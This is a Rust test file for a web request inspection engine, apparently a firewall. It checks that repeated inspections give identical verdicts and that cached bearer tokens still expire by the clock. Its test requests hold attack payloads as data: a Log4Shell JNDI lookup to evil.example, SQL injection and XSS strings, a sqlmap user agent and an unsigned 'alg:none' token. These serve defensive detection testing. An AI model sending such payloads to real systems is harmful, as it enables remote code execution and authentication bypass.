//! A policy remembers what it found in header values, parameter and key names and bearer
//! tokens (they repeat from request to request). Inspecting a request again must give exactly
//! the verdict of the first time, and the clock must still decide token expiry.

use vigil_engine::{CompiledPolicy, Outcome, Request, Verdict};

fn b64(s: &str) -> String {
    const T: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let mut out = String::new();
    for chunk in s.as_bytes().chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |acc, (i, &b)| acc | u32::from(b) << (16 - 8 * i));
        for i in 0..=chunk.len() {
            out.push(T[(n >> (18 - 6 * i) & 63) as usize] as char);
        }
    }
    out
}

fn describe(v: &Verdict<'_>) -> Vec<String> {
    v.findings
        .iter()
        .map(|f| format!("{}@{}[{}]", f.rule.id, f.target, f.fragment))
        .collect()
}

#[test]
fn second_inspection_equals_the_first() {
    let policy = CompiledPolicy::builtin().unwrap();
    let requests: Vec<(&str, Vec<(&str, &str)>)> = vec![
        (
            "/a?id=1",
            vec![("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")],
        ),
        (
            "/a?id=1",
            vec![("x-forwarded-host", "${jndi:ldap://evil.example/a}")],
        ),
        ("/a?%3Cscript%3E=1", vec![("accept", "application/json")]),
        (
            "/a?q=1' OR '1'='1",
            vec![(
                "referer",
                "https://example.com/?q=<script>alert(1)</script>",
            )],
        ),
        (
            "/a",
            vec![("user-agent", "Mozilla/5.0 (X11; Linux x86_64)")],
        ),
    ];
    for (target, headers) in &requests {
        let headers: Vec<(&str, &[u8])> = headers.iter().map(|(n, v)| (*n, v.as_bytes())).collect();
        let request = Request {
            method: "GET",
            target: target.as_bytes(),
            headers: &headers,
            body: None,
            body_truncated: false,
        };
        let first = policy.inspect(&request, &|| 1_800_000_000);
        let again = policy.inspect(&request, &|| 1_800_000_000);
        assert_eq!(first.outcome, again.outcome, "{target}");
        assert_eq!(describe(&first), describe(&again), "{target}");
    }
}

#[test]
fn a_remembered_token_still_expires_by_the_clock() {
    let policy = CompiledPolicy::builtin().unwrap();
    let token = format!(
        "Bearer {}.{}.sig",
        b64(r#"{"alg":"HS256"}"#),
        b64(r#"{"sub":"a","exp":1800000000}"#)
    );
    let inspect = |now: u64| {
        let headers: Vec<(&str, &[u8])> = vec![("authorization", token.as_bytes())];
        let request = Request {
            method: "GET",
            target: b"/a",
            headers: &headers,
            body: None,
            body_truncated: false,
        };
        describe(&policy.inspect(&request, &|| now))
    };
    assert!(inspect(1_700_000_000).is_empty(), "valid");
    assert_eq!(inspect(1_900_000_000).len(), 1, "expired, same token");
    assert!(inspect(1_700_000_000).is_empty(), "valid again");
    let unsigned = format!("Bearer {}.{}.", b64(r#"{"alg":"none"}"#), b64("{}"));
    let headers: Vec<(&str, &[u8])> = vec![("authorization", unsigned.as_bytes())];
    for _ in 0..2 {
        let request = Request {
            method: "GET",
            target: b"/a",
            headers: &headers,
            body: None,
            body_truncated: false,
        };
        assert_eq!(policy.inspect(&request, &|| 0).outcome, Outcome::Block);
    }
}
